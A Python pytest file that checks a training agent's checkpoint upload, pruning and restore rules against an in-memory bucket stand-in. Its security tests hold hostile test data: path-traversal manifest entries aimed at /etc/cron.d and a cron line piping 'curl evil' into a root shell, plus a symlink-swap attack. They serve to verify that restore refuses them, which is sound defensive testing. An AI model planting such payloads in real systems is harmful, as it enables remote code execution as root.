"""The agent's checkpoint commit and restore rules, one at a time, as templates/agent/PROTOCOL.md states them.

The end-to-end tests (tests/test_agent_*.py) run the agent as a process against moto, GCS and Azurite; these
call its functions directly so each rule of the protocol has a test that fails on its own when it breaks:
files, then MANIFEST.json, then LATEST (only forward); prune only below the newest kept steps and manifest
first; restore the newest step that verifies (sizes from the listing, sha256 of every download), COMPLETE last.

`BucketStandIn` keeps objects in memory with the semantics the agent relies on from S3/GCS/Azure Blob (the
stores themselves are tested against those services): a missing key reads as None, a listing gives every key
under a prefix with its size, a delete of a missing key is not an error. It also records the order of writes
and deletes, which is what a kill at the wrong moment would expose.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from tests.agent_support import load_agent_module

agent = load_agent_module()
PREFIX = "runs/llama"


class BucketStandIn(agent.ObjectStore):
    def __init__(self):
        self.objects: dict[str, bytes] = {}
        self.ops: list[tuple[str, str]] = []  # ("put" | "delete", key), in order

    def put_bytes(self, key, data):
        self.objects[key] = bytes(data)
        self.ops.append(("put", key))

    def put_file(self, key, path):
        data = Path(path).read_bytes()
        self.put_bytes(key, data)
        return "sha256:" + hashlib.sha256(data).hexdigest()

    def get_bytes(self, key):
        return self.objects.get(key)

    def download(self, key, path, checksum):
        data = self.objects[key]
        Path(path).write_bytes(data)
        return checksum == "sha256:" + hashlib.sha256(data).hexdigest()

    def list(self, prefix):
        return {k: len(v) for k, v in self.objects.items() if k.startswith(prefix)}

    def delete(self, key):
        self.objects.pop(key, None)
        self.ops.append(("delete", key))

    def steps(self) -> set[int]:
        return {int(k.split("/")[2][5:]) for k in self.objects if k.split("/")[2].startswith("step-")}


def key(step: int, name: str, node: int = 0) -> str:
    """Where a file of `step` lives in the bucket (PROTOCOL.md section 3): MANIFEST.json at the step, every
    other file under the part of the node that saved it."""
    if name == "MANIFEST.json":
        return f"{PREFIX}/step-{step:08d}/{name}"
    return f"{PREFIX}/step-{step:08d}/node-{node}/{name}"


def write_step(ckpt: Path, step: int, complete: bool = True, payload: bytes | None = None) -> Path:
    """A DeepSpeed-like step directory: two shards and, once the trainer is done with it, COMPLETE."""
    d = ckpt / f"step-{step:08d}"
    (d / "global_step").mkdir(parents=True, exist_ok=True)
    (d / "global_step" / "mp_rank_00_model_states.pt").write_bytes(payload or f"model {step}".encode() * 50)
    (d / "global_step" / "optim_states.pt").write_bytes(f"optim {step}".encode() * 80)
    if complete:
        (d / "COMPLETE").write_text("")
    return d


@pytest.fixture
def bucket():
    return BucketStandIn()


def commit(bucket, tmp_path, *steps: int, keep_last: int = 0) -> None:
    for step in steps:
        write_step(tmp_path / "ckpt", step)
        agent.upload_step(bucket, PREFIX, str(tmp_path / "ckpt"), step, keep_last=keep_last)


# ---- local steps ------------------------------------------------------------------------------------


def test_only_steps_the_trainer_marked_complete_count_and_oldest_first(tmp_path):
    ckpt = tmp_path / "ckpt"
    for step in (30, 10, 20):
        write_step(ckpt, step)
    write_step(ckpt, 40, complete=False)  # DeepSpeed still writing it
    (ckpt / "latest").write_text("global_step40")  # DeepSpeed's own tag file is not a step
    assert agent.complete_steps(str(ckpt)) == [10, 20, 30]


# ---- commit: files, then MANIFEST.json, then LATEST -----------------------------------------------------


def test_commit_order_is_files_then_manifest_then_latest(bucket, tmp_path):
    commit(bucket, tmp_path, 7)
    puts = [k for op, k in bucket.ops if op == "put"]
    manifest_at, latest_at = puts.index(key(7, "MANIFEST.json")), puts.index(f"{PREFIX}/LATEST")
    files = [i for i, k in enumerate(puts) if k.startswith(key(7, "")) and not k.endswith("PART.json")]
    part_at = puts.index(key(7, "PART.json"))
    assert len(files) == 2 and max(files) < part_at < manifest_at < latest_at  # two shards, then the part
    assert bucket.objects[f"{PREFIX}/LATEST"] == b"step-00000007"
    manifest = json.loads(bucket.objects[key(7, "MANIFEST.json")])
    shard = (tmp_path / "ckpt" / "step-00000007" / "global_step" / "optim_states.pt").read_bytes()
    assert manifest["nodes"] == 1 and [p["node"] for p in manifest["parts"]] == [0]
    shard_file = tmp_path / "ckpt" / "step-00000007" / "global_step" / "optim_states.pt"
    assert {"path": "global_step/optim_states.pt", "size": len(shard),
            "checksum": "sha256:" + hashlib.sha256(shard).hexdigest(),
            "mtime_ns": shard_file.stat().st_mtime_ns} in manifest["parts"][0]["files"]  # fmt: skip


def test_latest_only_moves_forward(bucket, tmp_path):
    """Two uploads finishing out of order (a periodic one overtaken by the notice checkpoint)."""
    commit(bucket, tmp_path, 20, 10)
    assert agent.read_latest(bucket, PREFIX) == 20
    assert key(10, "MANIFEST.json") in bucket.objects  # the older step is still durable


@pytest.mark.parametrize("text", [b"step-00000012", b"step-00000012\n", b"  step-00000012 \r\n"])
def test_latest_is_read_with_the_whitespace_editors_and_tools_add(bucket, text):
    bucket.put_bytes(f"{PREFIX}/LATEST", text)
    assert agent.read_latest(bucket, PREFIX) == 12


@pytest.mark.parametrize("text", [b"12", b"global_step12", b""])
def test_latest_not_naming_a_step_reads_as_none(bucket, text):
    bucket.put_bytes(f"{PREFIX}/LATEST", text)
    assert agent.read_latest(bucket, PREFIX) is None


# ---- prune -------------------------------------------------------------------------------------------


def test_keep_last_keeps_the_newest_steps_and_deletes_the_rest(bucket, tmp_path):
    commit(bucket, tmp_path, 1, 2, 3, 4, 5, keep_last=2)
    assert bucket.steps() == {4, 5}


def test_prune_counts_only_steps_at_or_below_latest_and_never_touches_newer_uploads(bucket, tmp_path):
    commit(bucket, tmp_path, 1, 2, 3, 4, 5)
    bucket.delete(key(5, "MANIFEST.json"))  # step 5 still uploading: files, no manifest yet
    agent.prune(bucket, PREFIX, keep_last=2, latest=3)
    # Kept: the 2 newest complete steps at or below LATEST (3, 2), and 4 and 5 above it (newer uploads).
    assert bucket.steps() == {2, 3, 4, 5}
    assert key(5, "global_step/optim_states.pt") in bucket.objects


def test_prune_never_deletes_the_step_latest_names(bucket, tmp_path):
    """Even when that step's manifest is gone (a torn write): LATEST must keep naming something."""
    commit(bucket, tmp_path, 1, 2, 3)
    bucket.delete(key(3, "MANIFEST.json"))
    agent.prune(bucket, PREFIX, keep_last=1, latest=3)
    assert 3 in bucket.steps() and 2 in bucket.steps() and 1 not in bucket.steps()


def test_prune_with_no_complete_step_below_latest_deletes_nothing(bucket, tmp_path):
    """LATEST's only step lost its manifest and nothing older exists: nothing to count, nothing to delete."""
    commit(bucket, tmp_path, 3)
    bucket.delete(key(3, "MANIFEST.json"))
    assert agent.prune(bucket, PREFIX, keep_last=1, latest=3) == []
    assert bucket.steps() == {3}


def test_prune_deletes_a_steps_manifest_before_its_files(bucket, tmp_path):
    """A prune killed half-way must never leave a manifest over missing files (restore would trust it)."""
    commit(bucket, tmp_path, 1, 2)
    bucket.ops.clear()
    agent.prune(bucket, PREFIX, keep_last=1, latest=2)
    deleted = [k for op, k in bucket.ops if op == "delete"]
    assert deleted[0] == key(1, "MANIFEST.json") and len(deleted) == 4


# ---- verify and restore -----------------------------------------------------------------------------


def restored_payload(dest: Path, step: int) -> bytes:
    return (dest / f"step-{step:08d}" / "global_step" / "mp_rank_00_model_states.pt").read_bytes()


def test_restore_takes_latest_and_writes_complete(bucket, tmp_path):
    commit(bucket, tmp_path, 1, 2)
    dest = tmp_path / "node"
    dest.mkdir()
    assert agent.restore(bucket, PREFIX, str(dest)) == 2
    assert restored_payload(dest, 2) == b"model 2" * 50 and (dest / "step-00000002" / "COMPLETE").is_file()
    assert agent.complete_steps(str(dest)) == [2]


def test_without_latest_restore_takes_the_newest_verified_step(bucket, tmp_path):
    commit(bucket, tmp_path, 1, 3, 2)
    bucket.delete(f"{PREFIX}/LATEST")
    dest = tmp_path / "node"
    dest.mkdir()
    assert agent.restore(bucket, PREFIX, str(dest)) == 3


@pytest.mark.parametrize(
    "damage",
    ["truncated shard", "same size other bytes", "torn manifest", "manifest missing"],
)
def test_a_latest_step_that_does_not_verify_falls_back_to_the_previous_one(bucket, tmp_path, damage):
    commit(bucket, tmp_path, 1, 2)
    shard = key(2, "global_step/mp_rank_00_model_states.pt")
    if damage == "truncated shard":
        bucket.objects[shard] = bucket.objects[shard][:100]
    elif damage == "same size other bytes":
        bucket.objects[shard] = b"x" * len(bucket.objects[shard])
    elif damage == "torn manifest":
        bucket.objects[key(2, "MANIFEST.json")] = bucket.objects[key(2, "MANIFEST.json")][:40]
    else:
        del bucket.objects[key(2, "MANIFEST.json")]
    dest = tmp_path / "node"
    dest.mkdir()
    assert agent.restore(bucket, PREFIX, str(dest)) == 1
    assert restored_payload(dest, 1) == b"model 1" * 50
    assert not (dest / "step-00000002").exists()
    assert [n for n in os.listdir(dest) if n.startswith(".restore-")] == []  # no temp dir left behind


def test_a_half_restored_step_directory_is_restored_again_not_trusted(bucket, tmp_path):
    """A node killed mid-restore left step-2 without COMPLETE: the next restore must redo it."""
    commit(bucket, tmp_path, 2)
    dest = tmp_path / "node"
    half = dest / "step-00000002" / "global_step"
    half.mkdir(parents=True)
    (half / "mp_rank_00_model_states.pt").write_bytes(b"partial")
    assert agent.restore(bucket, PREFIX, str(dest)) == 2
    assert restored_payload(dest, 2) == b"model 2" * 50 and (dest / "step-00000002" / "COMPLETE").is_file()


def test_a_step_already_restored_is_not_downloaded_again(bucket, tmp_path):
    commit(bucket, tmp_path, 2)
    dest = tmp_path / "node"
    write_step(dest, 2)
    downloads = []
    bucket.download = lambda k, p: downloads.append(k)  # type: ignore[method-assign]
    assert agent.restore(bucket, PREFIX, str(dest)) == 2 and downloads == []


def test_verify_checks_every_size_against_the_listing(bucket, tmp_path):
    """Before any download: a truncated object (an upload cut short) fails verification on its size."""
    commit(bucket, tmp_path, 2)
    assert agent.verify_manifest(bucket, PREFIX, 2)["step"] == 2
    shard = key(2, "global_step/optim_states.pt")
    bucket.objects[shard] = bucket.objects[shard][:-1]
    assert agent.verify_manifest(bucket, PREFIX, 2) is None


# ---- restore never trusts a manifest it cannot check (issue 13 #14) ------------------------------------


def _plant_step(bucket, step: int, files: list, blobs: dict[str, bytes], layout: str = "parts") -> None:
    """A step as an attacker (or a corrupted upload) could leave it: these objects, this manifest, LATEST. Laid
    out as the agent commits it (`parts`: node 0's objects under node-0/), or as a checkpoint from before parts
    (`flat`: objects at the step, a top-level "files" list), which restore still reads."""
    for name, data in blobs.items():
        bucket.put_bytes(key(step, name) if layout == "parts" else f"{PREFIX}/step-{step:08d}/{name}", data)
    doc = {"step": step, "files": files}
    if layout == "parts":
        doc = {"step": step, "nodes": 1, "parts": [{"node": 0, "files": files}]}
    bucket.put_bytes(key(step, "MANIFEST.json"), json.dumps(doc).encode())
    bucket.put_bytes(f"{PREFIX}/LATEST", f"step-{step:08d}".encode())


@pytest.mark.parametrize("layout", ["parts", "flat"])
@pytest.mark.parametrize(
    "path",
    ["../../../../etc/cron.d/x", "/etc/cron.d/x", "a/../../x", "./x", "a//b", "a\\..\\x", "x\n", ""],
)
def test_a_manifest_path_that_leaves_the_destination_is_refused_and_restore_falls_back(
    bucket, tmp_path, path, layout, capfd
):
    """An entry like ../../../../etc/cron.d/x would be written outside the destination, as root at boot, even
    with a wrong hash (the file lands before its hash is compared). Restore refuses the whole step and takes
    the previous good one; nothing is written outside `dest`."""
    commit(bucket, tmp_path, 5)
    evil = b"* * * * * root curl evil | sh\n"
    entry = {"path": path, "size": len(evil), "sha256": hashlib.sha256(evil).hexdigest()}
    # Stored where a naive join would read it from, so only the path check stands between it and the disk.
    _plant_step(bucket, 9, [entry], {path: evil} if path else {}, layout)
    root = tmp_path / "root"
    dest = root / "a" / "b" / "c" / "d" / "node"
    dest.mkdir(parents=True)
    before = {p for p in tmp_path.rglob("*")}
    assert agent.restore(bucket, PREFIX, str(dest)) == 5
    # the planted step was refused for its path, not because it did not verify (that would prove nothing)
    assert not any("manifest_mismatch" in line for line in capfd.readouterr().err.splitlines())
    written = {p for p in tmp_path.rglob("*")} - before
    assert written and all(dest in p.parents for p in written), sorted(map(str, written - {dest}))
    assert not any(p.read_bytes() == evil for p in written if p.is_file())


@pytest.mark.parametrize(
    "manifest",
    [
        [],
        {"files": None},
        {"files": "global_step/x"},
        {"files": [None]},
        {"files": [{"path": "global_step/x", "sha256": "0" * 64}]},  # no size
        {"files": [{"path": "global_step/x", "size": "12", "sha256": "0" * 64}]},
        {"files": [{"path": "global_step/x", "size": -1, "sha256": "0" * 64}]},
        {"files": [{"path": "global_step/x", "size": True, "sha256": "0" * 64}]},
        {"files": [{"path": "global_step/x", "size": 1, "sha256": "zz"}]},
        {"files": [{"path": 7, "size": 1, "sha256": "0" * 64}]},
        {"files": [{"path": "x", "size": 1, "sha256": "0" * 64}, {"path": "x", "size": 1, "sha256": "0" * 64}]},
    ],
)
def test_a_malformed_manifest_falls_back_to_the_newest_good_step_never_crashes(bucket, tmp_path, manifest):
    """Before: `[]`, a null entry or a missing size raised out of restore, and boot retried forever."""
    commit(bucket, tmp_path, 5)
    bucket.put_bytes(key(9, "global_step/x"), b"x")
    bucket.put_bytes(key(9, "MANIFEST.json"), json.dumps(manifest).encode())
    bucket.put_bytes(f"{PREFIX}/LATEST", b"step-00000009")
    dest = tmp_path / "node"
    dest.mkdir()
    assert agent.restore(bucket, PREFIX, str(dest)) == 5
    assert agent.complete_steps(str(dest)) == [5]


def test_a_link_inside_the_destination_cannot_carry_a_download_outside(bucket, tmp_path):
    """The text check passes `global_step/x`; if the temp folder's `global_step` were a link elsewhere, the file
    would land there. Restore checks where each file really lands."""
    commit(bucket, tmp_path, 5)
    dest = tmp_path / "node"
    dest.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    real_makedirs = os.makedirs

    def makedirs_then_link(name, mode=0o777, exist_ok=False):
        # The moment the restore creates its temp folder, something swaps in a link for global_step.
        real_makedirs(name, mode, exist_ok)
        tmp = Path(name)
        if tmp.name == "global_step" and tmp.parent.name.startswith(".restore-step-") and not tmp.is_symlink():
            tmp.rmdir()
            tmp.symlink_to(outside)

    os.makedirs = makedirs_then_link
    try:
        result = agent.restore(bucket, PREFIX, str(dest))
    finally:
        os.makedirs = real_makedirs
    assert list(outside.iterdir()) == []
    assert result is None or (dest / "step-00000005" / "global_step").is_dir()
